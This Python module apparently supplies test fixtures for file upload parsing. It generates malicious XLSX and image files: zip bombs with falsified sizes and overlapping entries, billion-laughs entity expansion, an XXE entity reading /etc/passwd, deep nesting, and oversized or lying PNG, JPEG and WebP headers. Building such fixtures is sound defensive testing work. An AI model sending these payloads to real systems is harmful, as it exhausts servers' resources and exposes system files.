"""Files made to hurt: small to send, endless to unpack; and their harmless sisters."""

import io
import random
import struct
import zipfile
import zlib
from functools import cache

import xlsxwriter

TYPES = "[Content_Types].xml"
WORKBOOK = "xl/workbook.xml"
LINKS = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"


@cache
def workbook(rows: int = 3) -> bytes:
    """As a spreadsheet program saves it."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as made:
        sheet = made.add_worksheet()
        for row in range(rows):
            sheet.write_row(row, 0, ["https://www.douyin.com/video/1", row, "=1+1"])
    return file.getvalue()


def _basic() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


BASIC = _basic()


def zipped(parts: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", kind) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def with_parts(**others: bytes) -> bytes:
    """The basic workbook with these parts, by their names above, in the place of its own."""
    return zipped(BASIC | {globals()[name]: content for name, content in others.items()})


def sheet(data: bytes) -> bytes:
    return b"<worksheet><sheetData>" + data + b"</sheetData></worksheet>"


def endless_part(megabytes: int = 95) -> bytes:
    """A part of blanks in front of its end: 1,000 to 1, within the limit of bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in BASIC.items():
            archive.writestr(name, content)
        with archive.open("xl/comments.xml", "w") as part:
            part.write(b"<a>")
            for _ in range(megabytes):
                part.write(b" " * 1024 * 1024)
            part.write(b"</a>")
    return file.getvalue()


def liar(megabytes: int = 300) -> bytes:
    """Its list says that a part is a few bytes; what unpacks is not."""
    packed = endless_part(megabytes)
    real = 3 + 4 + megabytes * 1024 * 1024
    return packed.replace(struct.pack("<I", real), struct.pack("<I", 1000))


def overlapping() -> bytes:
    """Many entries that all unpack the same bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in BASIC.items():
            archive.writestr(name, content)
        archive.writestr("xl/a.xml", b"<a>" + b" " * 900_000 + b"</a>")
        shared = archive.infolist()[-1]
        for number in range(90):
            twin = zipfile.ZipInfo(f"xl/a{number}.xml")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, field, getattr(shared, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return file.getvalue()


def many_entries(count: int) -> bytes:
    return zipped(BASIC | {f"xl/{number}.xml": b"<a/>" for number in range(count)})


def far_cell() -> bytes:
    """Two cells whose readers lay out 17,179,869,184."""
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row>'
    return with_parts(SHEET=sheet(cells + b'<row><c r="XFD1048576"><v>1</v></c></row>'))


def many_rows(count: int) -> bytes:
    return with_parts(SHEET=sheet(b"".join(b'<row r="%d"/>' % (row + 1) for row in range(count))))


def many_strings(count: int) -> bytes:
    strings = b"".join(b"<si><t>%d</t></si>" % number for number in range(count))
    return with_parts(STRINGS=b"<sst>" + strings + b"</sst>")


def shared_by_all(cells: int = 4_000, signs: int = 32_000) -> bytes:
    """One long text that every cell names: kilobytes, of which a reader makes 128 MB."""
    text = b"<sst><si><t>" + b"a" * signs + b"</t></si></sst>"
    named = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (row, row)
        for row in range(1, cells + 1)
    )
    return with_parts(STRINGS=text, SHEET=sheet(named))


def long_text(signs: int = 32_768) -> bytes:
    return with_parts(STRINGS=b"<sst><si><t>" + b"a" * signs + b"</t></si></sst>")


def entities() -> bytes:
    """The billion laughs."""
    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    start = b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "lol">' + laughs + b"]>"
    return with_parts(STRINGS=start + b"<sst><si><t>&l9;</t></si></sst>")


def outside_entity() -> bytes:
    start = b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return with_parts(STRINGS=start + b"<sst><si><t>&x;</t></si></sst>")


def endless_token() -> bytes:
    """One tag of 6 MB that does not pack well: no ratio gives it away."""
    noise = random.Random(7).randbytes(3_000_000).hex().encode("ascii")
    return with_parts(STRINGS=b'<sst a="' + noise + b'"/>')


def deep() -> bytes:
    return with_parts(STRINGS=b"<a>" * 100_000 + b"</a>" * 100_000)


# ── Pictures ────────────────────────────────────────────────────────────────────────────────────


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *, between: bytes = b"") -> bytes:
    """Black, one bit a pixel: 20,000 × 20,000 are 50 kB to send and 1.6 GB to look at."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    packer = zlib.compressobj(9)
    line = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + header + between + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_of_two_heads() -> bytes:
    """One pixel says the first, 4,000 × 4,000 the second, which decoders believe."""
    return png(1, 1, between=_chunk(b"IHDR", struct.pack(">IIBBBBB", 4_000, 4_000, 8, 2, 0, 0, 0)))


def png_of_notes(megabytes: int) -> bytes:
    """A small picture with notes that unpack to far more than it."""
    note = b"note\0\0" + zlib.compress(b" " * 1000 * 1000)
    return png(8, 8, between=_chunk(b"zTXt", note) * megabytes)


def jpeg_head(width: int, height: int) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes(9)
    return b"\xff\xd8\xff\xe0\x00\x04ab\xff\xff\xc0" + struct.pack(">H", 2 + len(frame)) + frame


def webp_head(width: int, height: int) -> bytes:
    size = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    return b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0" + size
